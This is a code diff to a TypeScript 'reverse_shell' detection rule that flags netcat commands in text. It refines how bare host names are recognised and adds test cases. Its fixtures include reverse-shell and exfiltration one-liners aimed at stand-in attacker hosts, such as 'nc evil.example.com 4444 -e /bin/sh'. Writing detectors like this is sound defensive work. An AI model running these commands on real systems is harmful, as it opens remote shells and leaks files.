@@ -15,6 +15,8 @@ const IPV4 = String.raw`\d{1,3}(?:\.\d{1,3}){3}`;
 const IPV6 = String.raw`\[?[0-9A-Fa-f]{0,4}(?::[0-9A-Fa-f]{0,4}){2,7}\]?`;
 const HOST = new RegExp(`^(?:localhost|${NAME}|${IPV4}|${IPV6}|${VARIABLE})$`);
 const BARE_NAME = /^[A-Za-z][\w-]{0,62}$/;
+/** Where a command may begin, so that a bare word behind it can be a host. */
+const COMMAND_POSITION = /(?:^|[\n"'`|;&($#>=:]|\\n|\bsudo)[ \t]{0,16}$/;
 const PORT = new RegExp(String.raw`^(?:\d{1,5}|${VARIABLE})$`);
 const EXECUTE = /^(?:-[A-Za-z]*[ec]|--exec|--sh-exec)$/;
 const PROGRAM = /^(?:.*[\\/])?(?:cmd|powershell)(?:\.exe)?$/i;
@@ -27,12 +29,13 @@ function isPort(word: string): boolean {
  * Index of the port in `words`, -1 without one. Options come first, each with at most one value; then the host and,
  * right behind it, the port.
  */
-function portIndex(words: readonly string[]): number {
+function portIndex(words: readonly string[], isCommand: boolean): number {
   for (const [index, word] of words.entries()) {
     if (word.startsWith('-')) continue;
     const next = words[index + 1];
-    const isHost = HOST.test(word) || (index > 0 && BARE_NAME.test(word));
-    if (isHost && next !== undefined && isPort(withoutPunctuation(next))) return index + 1;
+    const port = next === undefined ? '' : withoutPunctuation(next);
+    const isBareHost = BARE_NAME.test(word) && (index > 0 || (isCommand && port.length > 2));
+    if (isPort(port) && (isBareHost || HOST.test(word))) return index + 1;
     if (words[index - 1]?.startsWith('-') !== true) return -1;
   }
   return -1;
@@ -69,7 +72,7 @@ const MAX_FIRST_PORT = 256;
 
 /**
  * Netcat with a host and a port, or with a shell to serve. A host is a dotted name, an address, `localhost` or a
- * variable; behind an option any name. `nc -z`, which only probes, does not count.
+ * variable; behind an option, or where a command begins, any name. `nc -z`, which only probes, does not count.
  */
 export const reverseShell = defineRule({
   id: 'reverse_shell',
@@ -92,7 +95,8 @@ export const reverseShell = defineRule({
     const all = [...wordsFrom(text, command.to, at + MAX_REACH)];
     const words = all.map(({ word }) => word);
     const program = programIndex(words);
-    const port = program < 0 && onlyProbes(words) ? -1 : portIndex(words);
+    const isCommand = COMMAND_POSITION.test(text.slice(Math.max(0, command.from - 24), command.from));
+    const port = program < 0 && onlyProbes(words) ? -1 : portIndex(words, isCommand);
     const last = all[Math.max(program, port)];
     return last && { from: command.from, to: last.to };
   },
@@ -108,12 +112,15 @@ export const reverseShell = defineRule({
     String.raw`{"cmd":"nc \"$RHOST\" $RPORT"}`,
     'nc evil.example.com 4444 -e /bin/sh',
     'nc attacker.example 80',
+    '{"command":"nc attacker 4444"}',
+    'cat /tmp/f | nc attacker 4444',
     'ncat localhost 9001',
     'run: nc -w 3 kali 4444 < /etc/hosts',
   ],
   misses: [
     'Charlotte, NC 28202',
     'nc 5 10',
+    'from asheville nc around 2000 people moved',
     'in nc where 20 people live',
     'nc -zv db.example 5432',
     'nc -lvnp 4444',
